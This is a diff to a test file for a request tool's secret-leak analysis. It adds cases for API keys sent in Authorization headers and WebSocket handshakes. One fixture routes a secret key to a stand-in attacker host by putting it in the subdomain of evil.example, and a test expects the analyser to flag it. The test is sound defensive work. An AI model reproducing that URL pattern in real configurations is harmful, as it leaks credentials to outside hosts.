@@ -28,6 +28,18 @@ const config: ProjectConfig = {
     whole: { plugin: "evm", url: "{{$env.URL}}/{{$secret.KEY}}" },
     port: { plugin: "evm", url: "http://127.0.0.1:{{$env.PORT}}/" },
     hidden: { plugin: "evm", url: "https://{{$secret.KEY}}.evil.example:9/" },
+    headed: {
+      plugin: "evm",
+      url: "https://headed.example/",
+      wsUrl: "wss://socket.example/",
+      headers: { Authorization: "Bearer {{$secret.KEY}}", "X-Port": "{{$env.PORT}}" },
+    },
+    headedInside: { plugin: "evm", url: "embedded:evm", headers: { Authorization: "Bearer {{$secret.KEY}}" } },
+    unsetHeader: {
+      plugin: "evm",
+      url: "https://unset.example/",
+      headers: { Authorization: "Bearer {{$secret.UNSET}}" },
+    },
     unset: { plugin: "evm", url: "https://unset.example/{{$secret.UNSET}}" },
   },
 }
@@ -88,6 +100,16 @@ describe("a request gives away", () => {
     "secret KEY → https://k-123456.evil.example:9",
   ])
 
+  check("the key in its headers", "# @network headed", "[{}]", [
+    "secret KEY → https://headed.example",
+    "env PORT → https://headed.example",
+  ])
+  check("the same to the host of a handshake", "# @network headed\n# @transport ws", "[{}]", [
+    "secret KEY → https://socket.example",
+    "env PORT → https://socket.example",
+  ])
+  check("no header inside this process", "# @network headedInside", "[{}]", [])
+
   it("no less when it runs than was asked about before", () => {
     const word = (digit: string) => `0x${digit.repeat(64)}`
     const words = { KEY: word("a"), OTHER: word("b"), PORT: word("c") }
@@ -140,6 +162,7 @@ describe("where values that are not set are expected", () => {
       expect(analysed(text, true).diagnostics).toEqual([])
     })
   check("### a secret in an address\n# @network unset\neth_getLogs [{}]\n")
+  check("### a secret in a header\n# @network unsetHeader\neth_getLogs [{}]\n")
   check('### a secret in params\n# @network open\neth_getLogs [{ "address": {{$secret.UNSET}} }]\n')
   check('@a = {{$secret.UNSET}}\n### through a variable\n# @network open\neth_getLogs [{ "address": {{a}} }]\n')
   check("### in a check\n# @network open\neth_getLogs [{}]\n?? result.length == $secret.UNSET\n")
